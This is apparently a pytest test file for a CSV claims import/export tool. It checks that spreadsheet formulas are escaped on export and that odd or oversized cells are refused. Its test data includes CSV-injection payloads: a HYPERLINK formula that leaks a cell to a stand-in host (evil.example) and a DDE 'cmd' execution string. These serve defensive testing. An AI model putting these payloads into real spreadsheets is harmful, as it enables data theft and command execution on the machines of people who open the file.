"""Claims CSV in and out under hostile content: formulas neutralised on export (and restored
on import, exactly), odd numbers and oversized cells refused in one located line."""
import csv

import pytest

from briefing.cli import main
from briefing.interchange import claims_csv
from briefing.workspace import Workspace, create_from_seed

HEADER = "source,subject,metric,value,as_of,credibility,quote"
FORMULAS = ['=HYPERLINK("http://evil.example/?leak="&A1,"click")', "=cmd|' /C calc'!A0",
            "+SUM(1,2)", "-2+3", "@SUM(A1:A9)", "\t=1+1", "\r=1+1", "'=already escaped",
            "''two apostrophes", "'Tis a plain apostrophe", "a = b, not a formula"]


def run(capsys, *argv):
    status = main([str(a) for a in argv])
    out, err = capsys.readouterr()
    return status, out, err


@pytest.fixture
def seed_db(tmp_path):
    path = tmp_path / "seed.briefing"
    create_from_seed(path)
    return path


def test_formula_cells_are_neutralised_and_the_round_trip_is_exact(capsys, tmp_path, seed_db):
    ws = Workspace.open(seed_db)
    try:
        claims = ws.claims()
        for claim, text in zip(claims, FORMULAS):
            ws.put(claim.changed(quote=text, note=text.strip()))
    finally:
        ws.close()
    first = tmp_path / "first.csv"
    assert run(capsys, "--db", seed_db, "export", first)[0] == 0
    with open(first, encoding="utf-8", newline="") as fh:
        rows = list(csv.DictReader(fh))
    quotes = [r["quote"] for r in rows[:len(FORMULAS)]]
    assert quotes == ["'" + t for t in FORMULAS[:-2]] + FORMULAS[-2:]
    assert not any(cell.startswith(("=", "+", "-", "@", "\t", "\r"))
                   for r in rows for cell in r.values())
    fresh = tmp_path / "fresh.briefing"     # the same sources; its claims are replaced
    create_from_seed(fresh)
    assert run(capsys, "--db", fresh, "import", first)[0] == 0
    again = tmp_path / "again.csv"
    assert run(capsys, "--db", fresh, "export", again)[0] == 0
    assert again.read_bytes() == first.read_bytes()
    ws = Workspace.open(fresh)
    try:
        assert [c.quote for c in ws.claims()][:len(FORMULAS)] == FORMULAS
    finally:
        ws.close()


def test_our_own_export_of_a_140_kb_quote_imports_again(capsys, tmp_path, seed_db):
    quote = "A very long quote, " * 7500          # 142,500 characters
    ws = Workspace.open(seed_db)
    try:
        ws.put(ws.claims()[0].changed(quote=quote))
    finally:
        ws.close()
    out = tmp_path / "claims.csv"
    assert run(capsys, "--db", seed_db, "export", out)[0] == 0
    create_from_seed(tmp_path / "fresh.briefing")
    status, _, err = run(capsys, "--db", tmp_path / "fresh.briefing", "import", out)
    assert (status, err) == (0, "")
    ws = Workspace.open(tmp_path / "fresh.briefing")
    try:
        assert quote in [c.quote for c in ws.claims()]
    finally:
        ws.close()


def test_a_cell_past_the_field_limit_is_one_located_line(capsys, tmp_path, seed_db,
                                                          monkeypatch):
    monkeypatch.setattr(claims_csv, "FIELD_CHARS", 1000)
    previous = csv.field_size_limit(1000)
    try:
        path = tmp_path / "long.csv"
        path.write_text(f"{HEADER}\nnis,x,killed,3,2025-01-01,2,short\n"
                        f"nis,x,killed,3,2025-01-01,2,\"{'y' * 2000}\"\n", encoding="utf-8")
        status, out, err = run(capsys, "--db", seed_db, "import", path)
    finally:
        csv.field_size_limit(previous)
    assert status == 2 and out == ""
    assert err == (f"{path}: line 3: not readable as CSV (field larger than field limit "
                   "(1000))\n")


@pytest.mark.parametrize("column, cell, message", [
    ("credibility", "²", "line 2, column credibility: '²' is not one of 1, 2, 3, 4, 5, 6"),
    ("credibility", "9" * 5000, "line 2, column credibility: '" + "9" * 58 + "… is not one"),
    ("credibility", "٣", "line 2, column credibility: '٣' is not one of"),
    ("value", "9" * 5000, "line 2, column value: must be a finite number"),
    ("value", "1,2,3", "line 2, column value: not a number: '1,2,3'"),
    ("value", "12,00", "line 2, column value: not a number: '12,00'"),
])
def test_odd_numbers_are_refused_in_one_located_line(capsys, tmp_path, seed_db, column, cell,
                                                     message):
    values = dict(source="nis", subject="x", metric="killed", value="3", as_of="2025-01-01",
                  credibility="2", quote="q")
    values[column] = cell
    path = tmp_path / "odd.csv"
    with open(path, "w", encoding="utf-8", newline="") as fh:
        csv.writer(fh).writerows([HEADER.split(","), [values[c] for c in HEADER.split(",")]])
    status, out, err = run(capsys, "--db", seed_db, "import", path)
    assert status == 2 and out == ""
    assert err.startswith(f"{path}: {message}") and err.count("\n") == 1


def test_thousands_separators_still_read(capsys, tmp_path, seed_db):
    path = tmp_path / "ok.csv"
    path.write_text(f"{HEADER}\nnis,x,killed,\"12,000\",2025-01-01,2,q\n"
                    f"nis,x,killed,\"1,200.5\",2025-01-01,2,q\n", encoding="utf-8")
    assert run(capsys, "--db", seed_db, "import", path)[0] == 0
    ws = Workspace.open(seed_db)
    try:
        assert sorted(c.value for c in ws.claims() if c.subject == "x") == [1200.5, 12000]
    finally:
        ws.close()


def test_a_duplicate_header_is_refused_not_silently_the_last(capsys, tmp_path, seed_db):
    path = tmp_path / "twice.csv"
    path.write_text(f"{HEADER},value\nnis,x,killed,3,2025-01-01,2,q,30000\n", encoding="utf-8")
    status, out, err = run(capsys, "--db", seed_db, "import", path)
    assert status == 2 and out == ""
    assert err == f"{path}: line 1: column 'value' appears 2 times\n"
